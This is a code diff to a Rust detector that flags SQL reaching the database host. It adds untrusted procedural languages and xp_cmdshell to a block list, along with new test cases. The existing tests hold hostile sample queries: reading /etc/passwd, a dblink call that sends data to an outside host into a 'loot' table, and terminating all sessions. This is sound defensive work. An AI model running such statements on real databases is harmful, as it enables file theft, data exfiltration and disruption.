@@ -188,6 +188,13 @@ fn sql_host_access(sql: &str) -> bool {
         "dblink_connect(",
         "create server",
         "pg_terminate_backend(",
+        // Untrusted procedural languages run code on the server's machine as its user.
+        "plpython3u",
+        "plpythonu",
+        "plperlu",
+        "pltclu",
+        "plsh",
+        "xp_cmdshell",
     ]
     .iter()
     .any(|m| code.contains(m))
@@ -1135,6 +1142,8 @@ mod tests {
             "select pg_read_file('/etc/passwd')",
             "SELECT * FROM dblink('host=198.51.100.23 dbname=sink', 'INSERT INTO loot VALUES (1)') AS t(x text)",
             "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()",
+            "CREATE EXTENSION IF NOT EXISTS plpython3u",
+            "EXEC xp_cmdshell 'whoami'",
         ] {
             assert!(super::sql_host_access(sql), "{sql}");
         }
@@ -1144,6 +1153,7 @@ mod tests {
             "COPY orders TO STDOUT WITH CSV HEADER",
             "select 'into outfile' as s",
             "SELECT pid, state FROM pg_stat_activity",
+            "CREATE EXTENSION IF NOT EXISTS pgcrypto",
         ] {
             assert!(!super::sql_host_access(sql), "{sql}");
         }
